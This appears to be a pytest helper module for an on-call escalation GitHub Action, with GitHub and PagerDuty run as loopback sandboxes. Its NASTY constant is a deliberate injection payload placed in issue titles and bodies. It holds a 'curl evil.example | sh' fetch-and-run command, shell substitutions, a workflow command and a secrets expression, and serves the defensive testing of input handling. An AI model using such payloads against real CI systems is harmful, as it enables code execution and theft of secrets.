"""A repository with what is provisioned, GitHub and PagerDuty on loopback, and a runner of its workflow's jobs."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import escalate
import httpx
import pytest
import yaml
from oncall_sandbox import address
from plugin_host.http import trust

from oncall import load
from oncall.model import Operation
from templates import pin, render
from tools.seed import seeded

ROOT = Path(__file__).parents[3]
WING = ROOT / "tests" / "oncall" / "wing.yaml"
REPOSITORY = "winglang/wing"
KEPT = "winglang/on-call"
HANDBOOK = f"https://github.com/{KEPT}/blob/main/docs/handbook"
SERVICE = "https://app.pagerduty.com/service-directory/PUSERS1"
NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
TOKEN = "ghs_token_of_the_job"
PERMISSIONS = {"ada": "admin", "mai": "write", "tri": "read"}
"""What the API says of who may admin, maintain (or write), and triage."""
NASTY = '"; curl evil.example | sh #\n::error::$(id) ${{ secrets.X }} `id` <!-- on-call 9 --> @everybody'


def _layered(start: str, turn: int, *people: object) -> str:
    layer = {
        "rotation": "Israel",
        "start": start,
        "end": None,
        "first_turn": start,
        "turn": turn,
        "people": people,
        "hours": [{"weekday": None, "start": "03:00", "length": 43200}],
    }
    level = {"level": "primary", "after": 0, "seats": [{"layers": [layer], "overrides": []}]}
    return json.dumps({"teams": [{"team": "", "levels": [level]}]})


@cache
def led() -> Operation:
    """Wing's own operation, with a runbook for its playground."""
    operation = load(WING)
    playground = replace(operation.assets["playground"], runbook="https://runbooks.example/playground")
    return replace(operation, assets={**operation.assets, "playground": playground})


@cache
def _files() -> dict[str, str]:
    """What is provisioned into the repository, by path."""
    return {**render.files(led(), REPOSITORY), render.CALLER: render.caller(led(), KEPT, SERVICE)}


@cache
def _on_call() -> str:
    """The data of who is on call."""
    return render.on_call(load(WING), NOW)


@cache
def _parsed(text: str) -> dict[Any, Any]:
    found: dict[Any, Any] = yaml.safe_load(text)
    return found


def provisioned(folder: Path) -> Path:
    """A checkout of a repository that has everything of Wing's own operation."""
    for path, content in _files().items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content, encoding="utf-8")
    return folder


UNREADABLE = [
    None,
    "",
    "[]",
    "<<<<<<< HEAD\n{}\n",
    '{"teams": []}',
    '{"teams": [{"team": "", "levels": []}]}',
    '{"teams": [{"team": "", "levels": [{"level": "primary", "after": 0, "seats": null}]}]}',
    _layered("tomorrow", 604800, "eladb"),
    _layered("2026-11-23T03:00Z", 0, "eladb"),
    _layered("2026-11-23T03:00Z", 604800),
    _layered("2026-11-23T03:00Z", 604800, "eladb", 7),
    _layered("2026-11-23T03:00Z", 604800, "eladb").replace(
        '"team": ""', '"team": "", "assignees": {"P0": [1]}'
    ),
]
"""What cannot be the data of who is on call; None is no file."""


def unreadable(world: World, content: str | None) -> None:
    """Put ``content`` in the place of the data that is published."""
    world.publish(content)


@dataclass
class Ran:
    """What a run printed and how it ended; ``waits`` are the seconds before each repetition."""

    status: int
    printed: str
    waits: list[float] = field(default_factory=list)


class World:
    """The accounts and the repository; issue 1 is Wing's only one."""

    def __init__(self, folder: Path, url: str) -> None:
        self.folder = folder
        self.url = url
        self.client = httpx.Client(headers={"Authorization": "Bearer a-made-up-token"}, verify=trust(url))
        self.control("reset")
        repositories = self.control("documents", method="GET")["github/repositories"]
        known = {**repositories[REPOSITORY], "collaborators": PERMISSIONS}
        self.control("put", {"kind": "github/repositories", "id": REPOSITORY, "body": known})
        self.control("clock", {"now": NOW.isoformat()})
        self.key = self._service()
        home = self.ask("GET", f"api.github.com/repos/{REPOSITORY}")
        self.repository_id = home["id"]
        self.issue = self.ask(
            "POST", f"api.github.com/repos/{REPOSITORY}/issues", {"title": NASTY, "body": NASTY}
        )

    def control(self, name: str, body: Any = None, method: str = "POST") -> Any:
        return self.client.request(method, f"{self.url}/_sandbox/{name}", json=body).json()

    def ask(self, method: str, path: str, body: Any = None) -> Any:
        answer = self.client.request(method, f"{self.url}/{path}", json=body)
        assert answer.is_success, answer.text
        return answer.json()

    def publish(self, content: str | None) -> None:
        """Who is on call, as the repository has it; None removes it."""
        where = f"api.github.com/repos/{REPOSITORY}/contents/{render.ON_CALL}"
        there = self.client.get(f"{self.url}/{where}?ref=main")
        sha = {"sha": there.json()["sha"]} if there.is_success else {}
        body = {"message": "Publish", "branch": "main", **sha}
        if content is None:
            self.client.request("DELETE", f"{self.url}/{where}", json=body)
            return
        self.ask("PUT", where, body | {"content": base64.b64encode(content.encode()).decode()})

    def event(
        self, action: str, sender: str = "mai", *, label: str | None = None, kind: str = "User"
    ) -> dict[str, Any]:
        """The payload of an event, after what it tells of has happened to the issue."""
        labels = [one["name"] for one in self.issue["labels"]]
        if action == "labeled" and label not in labels:
            labels.append(str(label))
        if action == "unlabeled":
            labels.remove(str(label))
        state = {"closed": "closed", "reopened": "open"}.get(action, self.issue["state"])
        before = set(self._history())
        where = f"api.github.com/repos/{REPOSITORY}/issues/1"
        self.issue = self.ask("PATCH", where, {"labels": labels, "state": state})
        self._act({"login": sender, "type": kind}, before, action)
        return {
            "action": action,
            "issue": {**self.issue, "state_reason": None, "user": {"login": "stranger", "type": "User"}},
            "repository": {"id": self.repository_id, "full_name": REPOSITORY, "default_branch": "main"},
            "organization": {"login": "winglang"},
            "sender": {"login": sender, "type": kind},
            **({"label": {"name": label, "color": "b60205", "default": False}} if label else {}),
        }

    def _history(self) -> dict[str, Any]:
        found: dict[str, Any] = self.control("documents", method="GET").get("github/issue_events", {})
        return found

    def _act(self, person: dict[str, str], before: set[str], action: str) -> None:
        """What has just happened to the issue was done by ``person``."""
        for id_, event in self._history().items():
            if id_ not in before:
                body = {**event, "actor": person}
                self.control("put", {"kind": "github/issue_events", "id": id_, "body": body})
        if action == "closed":
            self.issue = {**self.issue, "closed_by": person}
            key = f"{REPOSITORY}#1"
            self.control("put", {"kind": "github/issues", "id": key, "body": self.issue})

    def step(self, event: dict[str, Any], *, in_shell: bool = False) -> Ran | None:
        """Run the workflow's job as the runner does; None where the workflow does not ask for the event.

        Its program runs in this process, which takes a tenth of the time, or from the runner's shell.
        """
        caller = _parsed((self.folder / render.CALLER).read_text(encoding="utf-8"))
        if event["action"] not in caller[True]["issues"]["types"]:
            return None
        (step,) = caller["jobs"]["escalate"]["steps"]
        pinned = pin.read()
        path, _, commit = step["uses"].removeprefix(f"{KEPT}/").partition("@")
        assert commit == pinned.commit
        action = ROOT / path
        called = _parsed((action / "action.yml").read_text(encoding="utf-8"))
        secrets = {"${{ github.token }}": TOKEN, "${{ secrets.PAGERDUTY_EVENTS_KEY }}": self.key}
        given = {name: secrets.get(value, value) for name, value in step["with"].items()}
        given = {
            name: given[name] if one.get("required") else given.get(name, secrets.get(one.get("default")))
            for name, one in called["inputs"].items()
        }
        (ran,) = called["runs"]["steps"]
        inputs = {f"${{{{ inputs.{name} }}}}": value for name, value in given.items()}
        environment = self.environment(event) | {
            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
            "GITHUB_ACTION_PATH": str(action),
            **{name: inputs[value] for name, value in ran["env"].items()},
        }
        assert ran["run"] == 'python3 "$GITHUB_ACTION_PATH/../programs/escalate.py"'
        if not in_shell:
            printed = io.StringIO()
            with contextlib.redirect_stdout(printed):
                status = escalate.main(environment, NOW)
            return Ran(status, printed.getvalue())
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-e", "-c", ran["run"]],
            cwd=self.folder,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
        return Ran(done.returncode, done.stdout + done.stderr)

    def run(self, event: dict[str, Any], capsys: pytest.CaptureFixture[str], **more: str) -> Ran:
        """Run the step's program in this process, where waiting takes no time."""
        environment = {**self.environment(event), **self.handed(), **more}
        waits: list[float] = []
        status = escalate.main(environment, NOW, waits.append)
        return Ran(status, capsys.readouterr().out, waits)

    def handed(self) -> dict[str, str]:
        """What the actions hand over to their programs."""
        operation = led()
        return {
            "GITHUB_TOKEN": TOKEN,
            "PAGERDUTY_EVENTS_KEY": self.key,
            "ON_CALL_MEANINGS": json.dumps(render.meanings(operation, SERVICE)),
            "ON_CALL_PUBLISHED": render.published(operation),
        }

    def environment(self, event: dict[str, Any]) -> dict[str, str]:
        """What the runner tells every step."""
        path = self.folder / "event.json"
        path.write_text(json.dumps(event), encoding="utf-8")
        return {
            "GITHUB_EVENT_PATH": str(path),
            "GITHUB_API_URL": f"{self.url}/api.github.com",
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_REF_NAME": "main",
            "PAGERDUTY_EVENTS_URL": f"{self.url}/events.pagerduty.com",
        }

    def incidents(self) -> list[tuple[str, str, str | None]]:
        """Status, urgency and priority of each incident."""
        found = self.ask("GET", "api.pagerduty.com/incidents?date_range=all")["incidents"]
        return [(one["status"], one["urgency"], (one["priority"] or {}).get("name")) for one in found]

    def events(self) -> list[str]:
        """What the Events API has taken, in order."""
        log = self.control("log", method="GET")
        return [
            one["method"] for one in log if one["host"] == "events.pagerduty.com" and one["status"] == 202
        ]

    def comments(self) -> list[str]:
        found = self.ask("GET", f"api.github.com/repos/{REPOSITORY}/issues/1/comments")
        return [str(one["body"]) for one in found]

    def _service(self) -> str:
        pagerduty = "api.pagerduty.com"
        user = {"user": {"type": "user", "name": "Mai", "email": "mai@wing.example"}}
        someone = self.ask("POST", f"{pagerduty}/users", user)["user"]["id"]
        rules = [{"escalation_delay_in_minutes": 10, "targets": [{"id": someone, "type": "user_reference"}]}]
        policy = {"escalation_policy": {"name": "Wing", "num_loops": 6, "escalation_rules": rules}}
        policy = self.ask("POST", f"{pagerduty}/escalation_policies", policy)["escalation_policy"]
        made = {
            "name": "Users",
            "escalation_policy": {"id": policy["id"]},
            "incident_urgency_rule": {"type": "constant", "urgency": "severity_based"},
        }
        service = self.ask("POST", f"{pagerduty}/services", {"service": made})["service"]["id"]
        rules = [
            {
                "conditions": [{"expression": f"event.custom_details.severity matches 'P{number}'"}],
                "actions": {"priority": f"PRI{number}"},
            }
            for number in range(3)
        ]
        path = {"sets": [{"id": "start", "rules": rules}], "catch_all": {"actions": {}}}
        where = f"{pagerduty}/event_orchestrations/services/{service}"
        self.ask("PUT", where, {"orchestration_path": path})
        self.ask("PUT", f"{where}/active", {"active": True})
        way = {"integration": {"name": "Events", "type": "events_api_v2_inbound_integration"}}
        answer = self.ask("POST", f"{pagerduty}/services/{service}/integrations", way)
        return str(answer["integration"]["integration_key"])


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of accounts of their own."""
    place = tmp_path_factory.mktemp("accounts")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SANDBOX_DIR", str(place))
        seed = place / "seed.json"
        seed.write_text(json.dumps(seeded(load(WING))))
        patch.setenv("SANDBOX_SEED", str(seed))
        url = address.ensure()
        yield url
        address.control("POST", "stop", url=url)


@pytest.fixture
def unpublished(server: str, tmp_path: Path) -> Iterator[World]:
    """Where nobody has published who is on call."""
    made = World(provisioned(tmp_path), server)
    yield made
    made.client.close()


@pytest.fixture
def world(unpublished: World) -> World:
    unpublished.publish(_on_call())
    return unpublished
